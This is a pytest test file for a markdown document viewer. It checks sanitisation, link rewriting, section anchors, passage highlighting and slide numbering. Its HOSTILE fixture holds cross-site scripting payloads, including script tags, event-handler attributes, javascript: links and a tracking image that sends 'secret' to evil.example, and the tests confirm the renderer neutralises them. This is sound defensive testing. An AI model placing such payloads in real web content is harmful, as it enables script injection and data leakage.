import re

import pytest

from retrieval.documents.extraction.markdown import parse_front_matter, parse_structure
from retrieval.media_types import PPTX
from retrieval.models import Document, DocumentText
from retrieval.viewer.markdown_page import render_document
from retrieval.viewer.page import build_viewer_context

HOSTILE = """# <img src=x onerror=alert(1)> title

<script>alert(1)</script> <div hx-get=/admin/>

[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](data:text/html,x) [d](//evil.example/) [e](/admin/logout/)
[f](vbscript:x) <javascript:alert(1)> <https://evil.example/"onmouseover=alert(1)>

![beacon](https://evil.example/?q=secret) ![<b>](x)

```"><script>alert(1)</script>
code
```

| a |
|:-:|
| <b onclick=x>b</b> |
"""


def html_of(text, **options):
    return "".join(render_document(text, **options))


def test_nothing_hostile_becomes_an_element():
    html = html_of(HOSTILE)
    tags = {name.lower() for name in re.findall(r"<([a-zA-Z][a-zA-Z0-9]*)", html)}
    assert tags <= {"h2", "p", "a", "span", "pre", "code", "div", "table", "thead", "tbody", "tr", "th", "td"}
    assert not re.search(r"<[^>]*\s(on\w+|style|src|hx-\w+)=", html)
    links = re.findall(r'href="([^"]*)"', html)
    assert all(link.startswith("https://evil.example/") for link in links)
    assert "beacon" in html


def test_links_to_nowhere_keep_their_words():
    html = html_of("see [the *other* page](other.md) and [this](javascript:x)")
    assert html == "<p>see the <em>other</em> page and this</p>\n"


def test_relative_links_lead_to_documents():
    asked = []

    def hrefs(sources):
        asked.append(sources)
        return {"guide/b c.md": "/documents/7/"}

    text = "[b](b%20c.md#part) [up](../x.md) [out](../../y.md) [abs](/z.md) [web](https://e.org/a.md)"
    html = html_of(text, source="guide/a.md", hrefs=hrefs)
    assert asked == [{"guide/b c.md", "x.md"}]
    assert '<a href="/documents/7/">b</a> up out abs ' in html
    assert '<a href="https://e.org/a.md" rel="nofollow noopener noreferrer">web</a>' in html


def test_links_inside_the_document_lead_to_its_headings():
    text = "[go](#second-part) [again](#second-part-1) [gone](#third)\n\n# Second `part`\n\n# Second part\n"
    html = html_of(text)
    first, second = text.index("# Second `"), text.rindex("# Second")
    assert f'<a href="#section-{first}">go</a> <a href="#section-{second}">again</a> gone' in html
    assert f'<h2 id="section-{first}">' in html


def test_every_section_of_the_extraction_has_its_anchor():
    text = "---\ntitle: x\n---\n# A\n\ntext\n\nB b\n===\n\n> # quoted\n\n## C ##\n"
    start = parse_front_matter(text)[1]
    sections, _protected = parse_structure(text, start)
    html = html_of(text, body_start=start)
    assert [f"section-{section.start}" for section in sections] == re.findall(r'id="(section-\d+)"', html)
    assert len(sections) == 3
    assert html.startswith('<pre class="front-matter" tabindex="0"><code>---\ntitle: x\n')


def marked(parts):
    return " ".join(re.findall(r"<mark[^>]*>(.*?)</mark>", "".join(parts), re.S))


@pytest.mark.parametrize("wanted", ["title: x", "x\n---\n# Head\n\nSome", "bold** words"])
def test_the_passage_is_marked_once_by_its_id(wanted):
    text = "---\ntitle: x\n---\n# Head\n\nSome **bold** words\n"
    start = text.index(wanted)
    parts = render_document(text, body_start=parse_front_matter(text)[1], passage=(start, start + len(wanted)))
    assert "".join(parts).count('id="passage"') == 1
    assert re.findall(r"\w+", marked(parts)) == re.findall(r"\w+", wanted)


def test_long_text_comes_in_parts_between_blocks():
    text = "# Head\n\n- a\n- b\n\npara *one*\n\n" * 3000
    parts = render_document(text, passage=(50_000, 50_400))
    assert len(parts) > 5
    assert "".join(parts).count('id="passage"') == 1
    for part in parts:
        assert part.count("<ul>") == part.count("</ul>")


def test_line_ends_of_web_pages_are_kept():
    assert html_of("Street 1\nTown", line_breaks=True) == "<p>Street 1<br>\nTown</p>\n"


def test_code_tells_its_language():
    assert '<pre data-language="c&quot;x" tabindex="0">' in html_of('```c"x y\ncode\n```\n')


def test_a_slide_has_its_number_and_one_without_words_is_left_out():
    text = "# One\n\n\n\n# Three\n"
    served = DocumentText(text=text, sections=[], pages=[(1, 0, 7), (2, 7, 9), (3, 9, len(text))])
    page = build_viewer_context(Document(source="a.pptx", media_type=PPTX), served, {"start": "11", "end": "16"})
    assert page["parts"] == [
        '<p class="slide-number" id="page-1">Slide 1</p><h2 id="section-0">One</h2>\n',
        '<p class="slide-number" id="page-3">Slide 3</p><h2 id="section-9"><mark id="passage">Three</mark></h2>\n',
    ]
    assert page["page"] == 3
